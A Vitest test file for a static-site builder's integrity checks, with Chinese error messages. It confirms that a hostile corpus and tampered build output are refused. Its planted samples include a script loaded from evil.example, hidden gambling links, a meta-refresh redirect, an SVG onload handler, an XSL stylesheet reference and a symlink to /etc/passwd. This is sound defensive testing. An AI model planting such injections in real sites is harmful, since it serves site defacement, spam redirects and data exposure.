/**
 * The adversarial corpus against real builds:
 * - every hostile case of tests/adversarial/cases.ts laid over one site at once: the build
 *   refuses, names every file, publishes nothing, and no code ran (the marker file is absent);
 * - the gate after the build, on a real build's output with files planted in it after the
 *   content check (as a tampered template, build machine or dependency would): every HTML, SVG
 *   and XML file is read as a browser reads it before anything is signed.
 */
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { buildSite, outputRoot, prepareFixture, problemLines, type BuildResult } from '../helpers/build.ts';
import { validSite } from './valid-site-build.ts';
import { cases } from '../adversarial/cases.ts';
import { writeHostileFile } from '../adversarial/run.ts';
import { expectations, checkPages } from '../../src/lib/integrity/pages.ts';
import { listFiles } from '../../src/lib/integrity/manifest.ts';
import { loadContent } from '../../src/lib/content/load.ts';
import { sitePaths } from '../../src/lib/content/paths.ts';
import { loadDenylist } from '../../src/lib/guard/denylist.ts';
import { FOOTER_HOSTS, domainAllowlist } from '../../src/lib/guard/domains.ts';

describe('the whole adversarial corpus in one site', () => {
  let result: BuildResult;
  let marker: string;
  // Cases that replace the site configuration are built on their own in the unit test.
  const together = cases.filter((hostile) => !('content/site.yaml' in hostile.files));

  beforeAll(() => {
    const siteDir = prepareFixture('valid-site', 'adversarial');
    marker = join(siteDir, 'MARKER');
    for (const hostile of together) {
      for (const [path, content] of Object.entries(hostile.files)) writeHostileFile(siteDir, path, content, marker);
    }
    result = buildSite('adversarial', { siteDir });
  });

  test('does not build, publishes nothing and runs no code', () => {
    expect(result.status, result.output).toBe(1);
    expect(result.exists('index.html')).toBe(false);
    expect(result.exists('.well-known/gongkai-manifest.json')).toBe(false);
    expect(existsSync(marker)).toBe(false);
  });

  test('prints every refused file with the same lines as the check', () => {
    const printed = new Set(problemLines(result.output));
    for (const hostile of together) {
      for (const line of hostile.lines) expect(printed, hostile.name).toContain(line);
    }
  });
});

describe('the gate after the build', () => {
  let outDir: string;
  let siteDir: string;

  beforeAll(() => {
    const build = validSite();
    siteDir = build.siteDir;
    outDir = join(outputRoot, 'dist', 'after-build-gate');
    rmSync(outDir, { recursive: true, force: true });
    cpSync(build.outDir, outDir, { recursive: true });
  });

  const check = () => {
    const paths = sitePaths(siteDir);
    const loaded = loadContent(paths);
    const rules = {
      denylist: loadDenylist(paths).denylist,
      allowlist: domainAllowlist(loaded.site),
      extraHosts: FOOTER_HOSTS,
    };
    return checkPages(outDir, listFiles(outDir), expectations(loaded)!, rules);
  };

  test('passes every file of a real build as it is', () => {
    const { problems, pages } = check();
    expect(problems).toEqual([]);
    expect(pages.length).toBeGreaterThan(20);
  });

  test('refuses what appears in the output after the content check, before anything is signed', () => {
    const page = 'policies/2024/new-standard/index.html';
    const original = readFileSync(join(outDir, page), 'utf8');
    writeFileSync(
      join(outDir, page),
      original
        .replace('</head>', '<script src="https://evil.example/tongji.js"></script></head>')
        .replace('</main>', '<div hidden><a href="https://evil.example/">开奖</a></div></main>')
        .replace(
          '</body>',
          '<!--><a href="https://bet.example/">体育</a><meta http-equiv="refresh" content="3;url=https://bet.example/"></body>',
        ),
    );
    mkdirSync(join(outDir, 'news'), { recursive: true });
    writeFileSync(join(outDir, 'news/today.htm'), original.replace(/<h1[^>]*>[^<]*<\/h1>/, '<h1>百家樂</h1>'));
    writeFileSync(join(outDir, 'files/logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
    writeFileSync(
      join(outDir, 'files/feed.xml'),
      '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><rss/>',
    );
    symlinkSync('/etc/passwd', join(outDir, 'files/passwd.txt'));
    expect(check().problems).toMatchInlineSnapshot(`
      [
        "files/feed.xml: XML 文件引用了样式表（<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>），浏览器会用它把文件变成网页。请删除这一行。",
        "files/logo.svg: SVG 图片含有会运行或加载内容的部分（onload）：只允许纯图形的 SVG。请用绘图软件另存为“纯 SVG”或改用 PNG。",
        "files/passwd.txt: 是一个符号链接：它会把网站以外的文件发布出去。请从 public/ 中删除这个链接，换成文件本身。",
        "news/today.htm: <h1> 含有违禁内容“百家樂”（赌博：百家乐）。",
        "news/today.htm: ArticleTitle 是“关于提高最低生活保障标准的通知”，应为“百家樂”。",
        "policies/2024/new-standard/index.html: 含有不属于本站程序的脚本（“<script src="https://evil.example/tongji.js">”）：只允许网站自己生成的脚本文件（/_astro/、/pagefind/ 等）。被篡改的网页常被植入这类脚本；请停止发布并检查来源。",
        "policies/2024/new-standard/index.html: <a> 链接到 evil.example（“https://evil.example/”），不在允许名单中（content/site.yaml 的 links、allowedDomains 和本站域名）。",
        "policies/2024/new-standard/index.html: 有读者看不到的链接（“https://evil.example/”，在隐藏的元素里）：只有搜索引擎能看到的链接是网站被挂“黑链”的典型手法。请删除。",
        "policies/2024/new-standard/index.html: <a> 链接到 bet.example（“https://bet.example/”），不在允许名单中（content/site.yaml 的 links、allowedDomains 和本站域名）。",
        "policies/2024/new-standard/index.html: 含有自动跳转（<meta http-equiv="refresh" content="3;url=https://bet.example/">）：被篡改的网站常用它把读者送到赌博网站。请删除。",
      ]
    `);
  });
});
